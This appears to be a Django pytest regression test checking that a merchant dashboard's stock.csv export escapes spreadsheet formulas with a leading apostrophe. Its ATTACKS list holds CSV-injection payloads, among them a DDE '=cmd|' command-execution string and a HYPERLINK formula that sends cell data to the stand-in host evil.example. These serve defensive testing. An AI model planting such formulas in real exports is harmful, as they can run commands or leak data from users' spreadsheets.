"""SEC (issue 20, low): the dashboard's ``stock.csv`` neutralises spreadsheet formulas the way the reports
do (``platform_core.reports.renderers.text``): a SKU code or title starting ``=``, ``+``, ``-``, ``@``,
tab or CR is written with a leading apostrophe, so ``=cmd|…`` or ``=HYPERLINK(…)`` is text, not a formula.
"""

import csv
import io

import pytest
from django.test import Client

from catalog.models import Category
from merchants.models import Merchant
from tests.factories.catalog import CategoryFactory, approved_listing, merchant_for

pytestmark = pytest.mark.django_db

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
]


@pytest.fixture
def shop(db: None) -> Merchant:
    category: Category = CategoryFactory.create()
    return merchant_for(category)


def test_sec_stock_csv_neutralises_formula_injection(shop: Merchant) -> None:
    skus = [{"code": code, "price": "10.00", "stock": 1} for code in ATTACKS[:4]]
    approved_listing(merchant=shop, title='=HYPERLINK("http://evil.example")', skus=skus)
    client = Client()
    client.force_login(shop.owner, backend="platform_core.accounts.backends.PhoneOrEmailBackend")
    response = client.get("/merchant/listings/stock.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == 4
    for row in rows:
        for cell in row[3:]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {row[3] for row in rows} == {"'" + code for code in ATTACKS[:4]}
